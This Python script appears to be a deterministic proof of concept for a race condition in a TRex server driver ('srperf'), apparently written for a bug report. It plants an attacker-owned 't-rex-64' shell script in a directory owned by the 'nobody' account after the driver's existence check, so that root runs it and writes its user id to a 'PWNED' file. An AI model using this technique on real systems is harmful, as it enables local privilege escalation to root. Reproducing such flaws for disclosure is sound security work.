"""Deterministic reproduction: a local TRex release that is missing when `testbed up`
(TrexServer.start) looks, and that nobody plants right after that look, is run by root."""
import os, pwd, shutil, sys
from pathlib import Path
from srperf.config.loader import load_testbed
from srperf.transports.netns import NetnsTransport
from srperf.drivers.trex_server import managed_server, TrexServer

NB = pwd.getpwnam("nobody")
base = Path("/tmp/q4q-race"); shutil.rmtree(base, ignore_errors=True); base.mkdir()
nob = base / "nob"; nob.mkdir(); os.chown(nob, NB.pw_uid, NB.pw_gid)
rel = nob / "release"
src = Path(sys.argv[1]).read_text().replace("/tmp/q4q-probe/nob/ltrex-release", str(rel))
tbf = base / "tb.yaml"; tbf.write_text(src)
tb = load_testbed(tbf)
print("loaded testbed, release", tb.tester.options.get("release"))
server = managed_server(tb, NetnsTransport(None))
orig_pid = TrexServer.pid
planted = []
def pid(self):
    if not planted:      # nobody wins the race: plants the release after the lexists look
        rel.mkdir(); os.chown(rel, NB.pw_uid, NB.pw_gid)
        t = rel / "t-rex-64"
        t.write_text("#!/bin/sh\nid -u > /tmp/q4q-race/PWNED\nsleep 1\n"); t.chmod(0o755)
        os.chown(t, NB.pw_uid, NB.pw_gid)
        planted.append(1)
    return orig_pid(self)
TrexServer.pid = pid
server.ready_s = 3
try:
    server.start()
except Exception as exc:
    print("start raised:", type(exc).__name__, str(exc)[:300])
import time; time.sleep(1.5)
print("PWNED exists:", (base / "PWNED").exists(), (base / "PWNED").read_text().strip() if (base / "PWNED").exists() else "")
print("trex_cfg written into nobody's dir:", sorted(p.name for p in rel.iterdir()))
